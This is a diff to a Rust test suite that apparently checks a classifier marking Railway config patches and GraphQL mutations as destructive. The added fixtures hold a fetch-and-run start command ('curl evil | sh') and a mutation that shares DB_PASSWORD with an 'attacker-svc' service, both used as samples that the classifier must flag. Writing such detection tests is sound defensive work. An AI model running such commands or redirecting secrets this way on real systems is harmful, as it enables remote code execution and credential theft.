@@ -1109,6 +1109,12 @@ fn patches_that_set_variables_or_change_what_runs_are_destructive() {
         json!({ "services": { "s": { "source": { "image": "evil/image" } } } }),
         json!({ "services": { "s": { "source": { "repo": "evil/repo" } } } }),
         json!({ "services": { "s": { "volumeMounts": { "vol-1": { "mountPath": "/tmp" } } } } }),
+        // every build and source setting decides what runs
+        json!({ "services": { "s": { "build": { "nixpacksPlan": { "phases": { "start": { "cmd": "curl evil | sh" } } } } } } }),
+        json!({ "services": { "s": { "build": { "dockerfilePath": "evil.Dockerfile" } } } }),
+        json!({ "services": { "s": { "build": { "builder": "NIXPACKS" } } } }),
+        json!({ "services": { "s": { "source": { "rootDirectory": "/evil" } } } }),
+        json!({ "services": { "s": { "configFile": "evil/railway.json" } } }),
         // one harmless service next to one that is not
         json!({ "services": { "a": { "deploy": { "numReplicas": 1 } }, "b": { "deploy": { "startCommand": "x" } } } }),
         // services as a list rather than a map
@@ -2200,4 +2206,35 @@ fn data_after_the_end_of_a_compressed_stream_is_unknown() {
         &body,
     );
     assert_unknown(&i, "unreadable-body");
+}
+
+/// GraphQL input coercion reads one value where a list belongs as a list
+/// of one: an escalation on the list's elements must too, whether the value
+/// is a literal or a variable.
+#[test]
+fn one_value_sent_for_a_list_escalates_like_a_list_of_one() {
+    let field = |ids: &str| {
+        format!(
+            r#"mutation {{ sharedVariableConfigure(input: {{projectId: "p", environmentId: "prod", name: "DB_PASSWORD", enabledServiceIds: {ids}, disabledServiceIds: []}}) }}"#
+        )
+    };
+    for ids in [r#""attacker-svc""#, r#"["attacker-svc"]"#] {
+        let i = railway_doc(&field(ids), None);
+        assert_eq!(
+            ops(&i),
+            want(&[("sharedVariableConfigure", Destructive)]),
+            "enabledServiceIds: {ids}"
+        );
+    }
+    let i = railway_doc(&field("[]"), None);
+    assert_eq!(ops(&i), want(&[("sharedVariableConfigure", Write)]));
+    let doc =
+        "mutation ($in: SharedVariableConfigureInput!) { sharedVariableConfigure(input: $in) }";
+    let i = railway_doc(
+        doc,
+        Some(
+            json!({ "in": { "projectId": "p", "environmentId": "prod", "name": "DB_PASSWORD", "enabledServiceIds": "attacker-svc", "disabledServiceIds": [] } }),
+        ),
+    );
+    assert_eq!(ops(&i), want(&[("sharedVariableConfigure", Destructive)]));
 }
